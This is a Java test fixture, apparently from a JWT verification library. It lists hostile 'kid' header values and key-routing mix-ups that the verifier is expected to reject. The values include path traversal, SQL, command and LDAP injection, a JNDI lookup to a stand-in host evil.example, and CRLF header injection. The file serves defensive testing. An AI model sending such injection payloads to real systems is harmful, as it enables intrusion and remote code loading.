package io.dynamiccredentials.verify;

import static io.dynamiccredentials.TokenRejectedException.Reason.ALGORITHM_REFUSED;
import static io.dynamiccredentials.TokenRejectedException.Reason.BAD_SIGNATURE;
import static io.dynamiccredentials.TokenRejectedException.Reason.MALFORMED;
import static io.dynamiccredentials.TokenRejectedException.Reason.UNKNOWN_KEY;
import static io.dynamiccredentials.TokenRejectedException.Reason.WRONG_AUDIENCE;
import static io.dynamiccredentials.TokenRejectedException.Reason.WRONG_ISSUER;
import static io.dynamiccredentials.verify.Trial.CLAIMS;
import static io.dynamiccredentials.verify.Trial.EC;
import static io.dynamiccredentials.verify.Trial.PARTNER;
import static io.dynamiccredentials.verify.Trial.STRANGER;
import static io.dynamiccredentials.verify.Trial.TENANT;
import static io.dynamiccredentials.verify.Trial.TENANT_KEY;
import static io.dynamiccredentials.verify.Trial.headed;
import static io.dynamiccredentials.verify.Trial.header;

import io.dynamiccredentials.TokenRejectedException.Reason;
import io.dynamiccredentials.fixtures.Jws;
import io.dynamiccredentials.keys.SigningKey;
import java.util.ArrayList;
import java.util.List;

/** Key ids that lead elsewhere, and keys of one issuer under tokens of another. */
final class KeyIdAttacks {
    private static final String KEY_ID = EC.publicJwk().keyId();

    private KeyIdAttacks() {}

    static List<Attack> rows() {
        List<Attack> rows = new ArrayList<>();
        addKeyIds(rows);
        addRouting(rows);
        return rows;
    }

    private static void addKeyIds(List<Attack> rows) {
        rows.add(
                Attack.of(UNKNOWN_KEY, "kid is missing", () -> headed(header(EC).without("kid"))));
        for (String json : List.of("null", "1", "true", "[\"" + KEY_ID + "\"]", "{}")) {
            rows.add(Attack.of(
                    MALFORMED, "kid is " + json, () -> headed(header(EC).with("kid", json))));
        }
        rows.add(keyId("kid walks to an empty file", "../../../../dev/null"));
        rows.add(keyId("kid is an absolute path", "/proc/sys/kernel/randomize_va_space"));
        rows.add(keyId("kid is an address", "https://evil.example/key.pem"));
        rows.add(keyId("kid injects SQL", "x' UNION SELECT 'secret';--"));
        rows.add(keyId("kid injects a command", "key.pem|whoami"));
        rows.add(keyId("kid injects into LDAP", "*)(uid=*))(|(uid=*"));
        rows.add(keyId("kid looks something up", "${jndi:ldap://evil.example/a}"));
        rows.add(keyId(MALFORMED, "kid ends with NUL", KEY_ID + "\\u0000"));
        rows.add(keyId(MALFORMED, "kid starts a line", "x\\r\\nSet-Cookie: a=b"));
        rows.add(keyId(MALFORMED, "kid is a lone surrogate", "\\ud800"));
        rows.add(keyId("kid overrides the direction of text", "\\u202e" + KEY_ID));
        rows.add(keyId("kid is the beginning of a key's", KEY_ID.substring(0, 20)));
        rows.add(keyId("kid ends with a space", KEY_ID + " "));
        rows.add(keyId("kid is in the other case", swapCase(KEY_ID)));
        rows.add(keyId("kid is a star", "*"));
        rows.add(Attack.of(
                MALFORMED,
                "kid is longer than 256 characters, though the key exists",
                () -> headed(header(EC).withText("kid", Trial.LONG_KEY_ID))));
        rows.add(Attack.of(MALFORMED, "kid has 64 KiB", () -> headed(header(EC).withText("kid", "k".repeat(65_536)))));
    }

    private static void addRouting(List<Attack> rows) {
        rows.add(Attack.control("a good token of the tenant", () -> of(TENANT, TENANT_KEY)));
        rows.add(Attack.control(
                "a good token of the partner",
                () -> Trial.saying(CLAIMS.withText("iss", PARTNER).withText("aud", "partner"))));
        rows.add(Attack.of(BAD_SIGNATURE, "the issuer's key signs for its tenant", () -> of(TENANT, EC)));
        rows.add(Attack.of(BAD_SIGNATURE, "the tenant's key signs for the issuer", () -> of(Trial.ISSUER, TENANT_KEY)));
        rows.add(Attack.of(
                UNKNOWN_KEY,
                "the tenant's key under its thumbprint signs for the issuer",
                () -> Jws.sign(TENANT_KEY, CLAIMS.toString())));
        rows.add(Attack.of(
                ALGORITHM_REFUSED,
                "the tenant's issuer allows less than the issuer",
                () -> Jws.sign(Trial.ED, CLAIMS.withText("iss", TENANT).toString())));
        rows.add(Attack.of(
                WRONG_AUDIENCE,
                "aud",
                "an audience of the issuer whose keys the partner shares",
                () -> Trial.saying(CLAIMS.withText("iss", PARTNER))));
        rows.add(Attack.of(
                WRONG_AUDIENCE,
                "aud",
                "an audience of the partner that shares the keys",
                () -> Trial.saying(CLAIMS.withText("aud", "partner"))));
        rows.add(Attack.of(
                UNKNOWN_KEY, "a stranger's key under its own id", () -> Jws.sign(STRANGER, CLAIMS.toString())));
        rows.add(Attack.of(BAD_SIGNATURE, "a stranger's key under the issuer's id", () -> of(Trial.ISSUER, STRANGER)));
        rows.add(Attack.of(
                WRONG_ISSUER,
                "iss",
                "an issuer that nobody trusts signs well",
                () -> of("https://evil.example", STRANGER)));
    }

    private static Attack keyId(String name, String keyId) {
        return keyId(UNKNOWN_KEY, name, keyId);
    }

    private static Attack keyId(Reason reason, String name, String keyId) {
        return Attack.of(reason, name, () -> headed(header(EC).withText("kid", keyId)));
    }

    /** Returns a token of {@code issuer} by {@code key}, under the id of the issuer's EC key. */
    private static String of(String issuer, SigningKey key) {
        return Jws.sign(
                key, header(EC).toString(), CLAIMS.withText("iss", issuer).toString());
    }

    private static String swapCase(String text) {
        StringBuilder swapped = new StringBuilder();
        text.chars()
                .map(c -> Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c))
                .forEach(c -> swapped.append((char) c));
        return swapped.toString();
    }
}
